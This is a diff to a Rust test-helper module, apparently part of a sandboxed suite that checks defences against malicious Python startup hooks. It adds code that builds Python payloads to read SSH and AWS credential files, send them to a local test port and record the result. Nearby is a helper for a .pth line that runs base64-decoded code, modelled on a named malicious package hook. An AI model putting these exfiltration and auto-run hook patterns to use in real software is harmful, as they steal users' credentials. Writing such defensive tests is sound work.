@@ -20,6 +20,39 @@ for rel in (".ssh/id_ed25519", ".aws/credentials"):
         pass
 "#;
 
+/// Python that sends `blob` to 127.0.0.1:`port` and records the outcome (`sent`, or
+/// `error <errno>`) in the payload marker; `os`, `home` and `blob` must be set before it.
+pub fn send_and_record(port: u16) -> String {
+    format!(
+        "
+import socket
+try:
+    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
+    s.sendall(blob)
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+"
+    )
+}
+
+/// The tests' exfiltrating payload: read the sandbox's credentials, send them to `port`,
+/// record the outcome in the marker.
+pub fn exfiltrate(port: u16) -> String {
+    format!("{READ_CREDENTIALS}{}", send_and_record(port))
+}
+
+/// Starts one interpreter in the sandbox (its hooks run) and returns what the payload
+/// recorded in its marker, cleared first.
+pub fn run_hook_once(sb: &Sandbox) -> Option<String> {
+    let _ = std::fs::remove_file(marker(sb));
+    let (code, out) = sb.python(&["-c", "pass"]);
+    assert_eq!(code, 0, "{out}");
+    wait_marker(sb, Duration::from_secs(20))
+}
+
 /// A `.pth` line that starts `sys.executable -c "exec(base64.b64decode(...))"` the way the
 /// litellm 1.82.8 hook did, once (the child inherits the guard).
 pub fn spawning_pth_line(child_code: &str) -> String {
